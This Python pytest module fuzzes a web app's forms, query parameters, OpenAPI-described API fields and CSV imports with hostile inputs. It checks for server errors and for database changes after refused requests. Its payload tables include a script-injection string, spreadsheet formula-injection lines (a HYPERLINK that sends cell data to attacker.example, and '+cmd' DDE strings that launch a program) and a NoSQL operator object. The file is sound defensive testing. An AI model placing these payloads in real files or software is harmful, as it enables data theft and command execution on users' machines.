"""Hostile input through every form, filter, sort, API field and import: never a 5xx, and a
refused request changes nothing in the database.

What is tried comes from the app itself, so a new form or field is covered without a line here:
the forms and link parameters found on every page (tests/route_world.py `visit_pages`), the API's
OpenAPI document, and each import page with the file its export writes. The kinds of input are
the ones a security probe sends: NUL, undecodable bytes and lone surrogates, a megabyte of text,
JSON nested 100,000 deep, numbers past every range, impossible dates, script and spreadsheet
formula strings. Each field gets a sample of them, the same on every run (seeded by the field).
"""

from __future__ import annotations

import csv
import io
import json
import random
from urllib.parse import quote, urlencode

import pytest

from tests.api.conftest import ApiClient
from tests.conftest import signed_in_client
from tests.route_world import (
    Site,
    World,
    build_world,
    changed_tables,
    database_state,
    restore,
    snapshot,
    visit_pages,
)
from tracker.extensions import db
from tracker.models import User

# Text as a form or query string carries it; a value in bytes is sent percent-encoded as is.
HOSTILE_TEXT: dict[str, str | bytes] = {
    "nul": "a\x00b",
    "invalid utf-8": b"%ff%fe",
    "encoded surrogate": b"%ed%a0%80",
    "a megabyte": "x" * 1_000_000,
    "1e309": "1e309",
    "2**64": str(2**64),
    "-2**63-1": str(-(2**63) - 1),
    "NaN": "NaN",
    "-Infinity": "-Infinity",
    "2026-02-30": "2026-02-30",
    "0000-01-01": "0000-01-01",
    "99999-01-01": "99999-01-01",
    "script": "<script>alert(1)</script>",
    "HYPERLINK": '=HYPERLINK("https://attacker.example/?"&A1,"Details")',
    "+cmd": "+cmd|' /C calc'!A0",
    "@SUM": "@SUM(1+1)*cmd|' /C calc'!A0",
}
# JSON values as they appear in a body: tokens the parser reads as numbers, and strings.
HOSTILE_JSON: dict[str, str] = {
    "nul": json.dumps("a\x00b"),
    "lone surrogate": '"\\ud800"',
    "a megabyte": json.dumps("x" * 1_000_000),
    "nested 100,000 deep": "[" * 100_000 + "]" * 100_000,
    "1e309": "1e309",
    "5e-324": "5e-324",
    "2**64": str(2**64),
    "-2**63-1": str(-(2**63) - 1),
    "NaN": "NaN",
    "Infinity string": '"Infinity"',
    "2026-02-30": '"2026-02-30"',
    "0000-01-01": '"0000-01-01"',
    "99999-01-01": '"99999-01-01"',
    "script": json.dumps("<script>alert(1)</script>"),
    "HYPERLINK": json.dumps('=HYPERLINK("https://attacker.example","x")'),
    "object": '{"$ne": null}',
}
KINDS_PER_FIELD = 3


def sample(kinds: dict, where: str, count: int = KINDS_PER_FIELD) -> list[str]:
    """`count` of the kinds, the same for `where` on every run."""
    return random.Random(where).sample(sorted(kinds), count)


def encoded(value: str | bytes) -> str:
    """A value percent-encoded for a form body or query string; bytes are sent as they are."""
    return value.decode() if isinstance(value, bytes) else quote(value, safe="")


class Sweep:
    """Sends requests, and records each 5xx and each refusal that changed the database; undoes
    every change so the next request meets the same world."""

    def __init__(self, app, world: World):
        self.app = app
        self.world = world
        self.saved = snapshot()
        self.before = database_state()
        self.problems: list[str] = []
        self.requests = 0

    def page_client(self):
        return signed_in_client(self.app, db.session.get(User, self.world.user_ids["admin"]))

    def api_client(self):
        return ApiClient(self.app.test_client(), self.world.api_tokens["admin"])

    def check(self, what: str, response, writes: bool = True) -> None:
        self.requests += 1
        if response.status_code >= 500:
            self.problems.append(f"{what}: {response.status_code}")
        if not writes:
            return
        changed = changed_tables(self.before, database_state())
        if changed:
            if response.status_code >= 400:
                self.problems.append(f"{what}: refused ({response.status_code}) but {changed}")
            restore(self.saved)

    def report(self) -> str:
        return f"{len(self.problems)} of {self.requests} requests:\n" + "\n".join(self.problems)


@pytest.fixture
def world(factory, clock) -> World:
    return build_world(factory, clock)


@pytest.fixture
def site(app, world) -> Site:
    """The world's pages read once (opening the dashboard writes its weekly snapshot)."""
    return visit_pages(app, world)


@pytest.fixture
def sweep(app, world, site) -> Sweep:
    return Sweep(app, world)


def known_values(forms) -> dict[str, str]:
    """A filled-in value for each field name, from whichever form shows one: a new risk's form
    gets the title, levels and dates the edit form shows, so one hostile field is all that is
    wrong with it."""
    values: dict[str, str] = {}
    for form in forms:
        for name, value in form.fields:
            if value.strip():
                values.setdefault(name, value)
    return values


def test_no_form_field_gives_a_5xx_or_a_change_when_refused(site, sweep):
    filled = known_values(site.forms.values())
    for action, form in sorted(site.forms.items()):
        fields = [(name, value or filled.get(name, "")) for name, value in form.fields]
        for name in sorted(form.names - set(form.files)):
            for kind in sample(HOSTILE_TEXT, f"{action} {name}"):
                others = urlencode([(n, v) for n, v in fields if n != name])
                body = f"{others}&{quote(name)}={encoded(HOSTILE_TEXT[kind])}"
                response = sweep.page_client().post(
                    action, data=body, content_type="application/x-www-form-urlencoded"
                )
                sweep.check(f"POST {action} {name}={kind}", response)
    assert not sweep.problems, sweep.report()


def test_no_filter_or_sort_gives_a_5xx(site, sweep):
    for path, names in sorted(site.parameters.items()):
        for name in sorted(names):
            for kind in sample(HOSTILE_TEXT, f"{path} {name}"):
                url = f"{path}?{quote(name)}={encoded(HOSTILE_TEXT[kind])}"
                response = sweep.page_client().get(url)
                sweep.check(f"GET {path} {name}={kind}", response, writes=False)
    assert not sweep.problems, sweep.report()


def schema_ref_parts(ref: str) -> list[str]:
    return ref.removeprefix("#/").split("/")


def resolve(document: dict, schema: dict) -> dict:
    """The schema a $ref points at (as often as it takes)."""
    while "$ref" in schema:
        target = document
        for part in schema_ref_parts(schema["$ref"]):
            target = target[part]
        schema = target
    return schema


def api_operations(document: dict):
    """(method, path template, query parameter names, body property names) per operation."""
    for template, item in sorted(document["paths"].items()):
        for method, operation in sorted(item.items()):
            parameters = [p for p in operation.get("parameters", []) if p["in"] == "query"]
            content = operation.get("requestBody", {}).get("content", {})
            body = resolve(document, content.get("application/json", {}).get("schema", {}))
            yield method.upper(), template, [p["name"] for p in parameters], body


def test_no_api_field_or_parameter_gives_a_5xx_or_a_change_when_refused(sweep):
    client = sweep.api_client()
    document = client.get("/api/v1/openapi.json").get_json()
    # Good values by field name, from the world's risk, mitigation and incident as the API
    # shows them, so that one hostile field is all that is wrong with a body.
    world = sweep.world
    good: dict[str, object] = {}
    for path in (
        f"/api/v1/incidents/{world.incident_key}",
        f"/api/v1/mitigations/{world.mitigation_id}",
        f"/api/v1/risks/{world.risk_key}",
    ):
        good.update(client.get(path).get_json())
    values = {
        "key": world.risk_key,
        "risk_key": world.risk_key,
        "mitigation_id": world.mitigation_id,
        "jira_key": "OPS-1",
    }
    for method, template, parameters, body in api_operations(document):
        if template.endswith("openapi.json"):
            continue
        url = (
            template.replace("{", "{0[")
            .replace("}", "]}")
            .format({**values, "key": world.incident_key} if "/incidents/" in template else values)
        )
        for name in parameters:
            for kind in sample(HOSTILE_TEXT, f"{method} {template} {name}"):
                response = client.open(method, f"{url}?{quote(name)}={encoded(HOSTILE_TEXT[kind])}")
                sweep.check(f"{method} {url} ?{name}={kind}", response, method != "GET")
        properties = body.get("properties", {})
        base = {name: good[name] for name in body.get("required", []) if name in good}
        for name in sorted(properties):
            for kind in sample(HOSTILE_JSON, f"{method} {template} {name}"):
                text = json.dumps({**base, name: "\0"}).replace('"\\u0000"', HOSTILE_JSON[kind])
                response = client.open(
                    method,
                    url,
                    data=text,
                    content_type="application/json",
                    headers={"If-Match": "*"},
                )
                sweep.check(f"{method} {url} {name}={kind}", response)
    assert not sweep.problems, sweep.report()


def import_pages(site) -> list[tuple[str, str]]:
    """(import page, the export it reads) for every form that uploads a file."""
    return [
        (action, action.rsplit("/", 1)[0] + "/export.csv")
        for action, form in sorted(site.forms.items())
        if form.files
    ]


def hostile_files(exported: str, where: str) -> dict[str, tuple[bytes, tuple[bool, ...]]]:
    """Hostile variants of an export, with the dry-run settings to try each with: one bad cell
    per column (imported for real), and whole files no import can read (also as a dry run)."""
    rows = list(csv.reader(io.StringIO(exported.lstrip("\ufeff"))))
    header, row = rows[0], rows[1]
    files: dict[str, tuple[bytes, tuple[bool, ...]]] = {}
    for column, name in enumerate(header):
        for kind in sample(HOSTILE_TEXT, f"{where} {name}", 2):
            value = HOSTILE_TEXT[kind]
            cell = value.decode() if isinstance(value, bytes) else value
            text = io.StringIO()
            csv.writer(text).writerows([header, [*row[:column], cell, *row[column + 1 :]]])
            files[f"{name}={kind}"] = (text.getvalue().encode(), (False,))
    whole = "\n".join(",".join(r) for r in rows)
    for what, content in {
        "NUL bytes": whole.encode().replace(b",", b",\x00", 3),
        "invalid UTF-8": whole.encode() + b"\xff\xfe\xed\xa0\x80\n",
        "UTF-16": whole.encode("utf-16"),
        "empty": b"",
        "binary": bytes(range(256)) * 64,
        "one huge cell": whole.encode() + b'\n"' + b"x" * 1_000_000 + b'"\n',
    }.items():
        files[what] = (content, (True, False))
    return files


def test_no_import_gives_a_5xx_or_a_change_when_refused(site, sweep):
    imports = import_pages(site)
    assert imports, "no import page found"
    for action, export in imports:
        form = site.forms[action]
        exported = sweep.page_client().get(export)
        assert exported.status_code == 200, export
        files = hostile_files(exported.get_data(as_text=True), action)
        for what, (content, dry_runs) in files.items():
            for dry_run in dry_runs:
                fields = {name: value for name, value in form.fields if name != "dry_run"}
                if dry_run:
                    fields["dry_run"] = "y"
                data = {**fields, form.files[0]: (io.BytesIO(content), "hostile.csv")}
                response = sweep.page_client().post(
                    action, data=data, content_type="multipart/form-data"
                )
                sweep.check(f"POST {action} {what} dry_run={dry_run}", response)
    assert not sweep.problems, sweep.report()
